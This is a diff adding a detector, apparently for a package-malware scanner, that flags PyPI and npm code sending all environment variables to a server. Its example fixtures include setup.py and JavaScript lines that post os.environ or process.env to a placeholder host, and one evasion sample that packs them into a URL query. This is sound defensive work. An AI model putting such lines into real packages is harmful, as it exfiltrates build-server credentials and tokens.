@@ -1,0 +1,60 @@
+import { flowsBetween } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { codeWith, sight } from "./_sight.ts";
+
+const LITERALS = ["environ", "process.env", "printenv"] as const;
+
+export const sendsEnvironment: Detector = {
+  id: "sends-environment",
+  title: "Sends all environment variables to a server",
+  severity: "critical",
+  ecosystems: ["pypi", "npm"],
+  points: 6.5,
+  class: "threat",
+  group: "exfiltration",
+  why: `The whole environment, not one variable of it, reaches a request, a socket or a DNS name. On build servers that is where
+deploy keys, registry tokens and cloud credentials are; most attacks on continuous integration begin with this.
+
+Error reporters that attach the environment filter it and do so on request only.`,
+  literals: LITERALS,
+  *detect(tree) {
+    for (const file of codeWith(tree, LITERALS)) {
+      for (const { sink } of flowsBetween(file, ["environment"], ["upload", "http", "dns", "socket", "mail"])) {
+        const late = sink.phase === "call" || sink.phase === "none";
+        const says = `all environment variables are sent by ${sink.what} ${sink.text.slice(0, 100)}`;
+        yield sight(file, sink.offset, says.trimEnd(), { phase: sink.phase, share: late ? 0.6 : 1 });
+      }
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "import os, requests\nrequests.post('http://example.invalid', json=dict(os.environ))\n" },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const d = JSON.stringify(process.env);\nfetch('http://example.invalid', { method: 'POST', body: d });\n",
+        },
+      },
+    ],
+    passes: [
+      { ecosystem: "pypi", files: { "demo/a.py": "import os, requests\nrequests.post(os.environ['URL'], json=x)\n" } },
+      {
+        ecosystem: "npm",
+        files: { "a.js": "const env = { ...process.env, A: 1 };\nspawn('x', { env });\nfetch(process.env.URL);\n" },
+      },
+    ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "setup.py":
+            "from os import environ as e\nimport urllib.request as u\nt = '&'.join(f'{k}={v}' for k, v in e.items())\nu.urlopen('http://example.invalid/?' + t)\n",
+        },
+      },
+    ],
+  },
+};
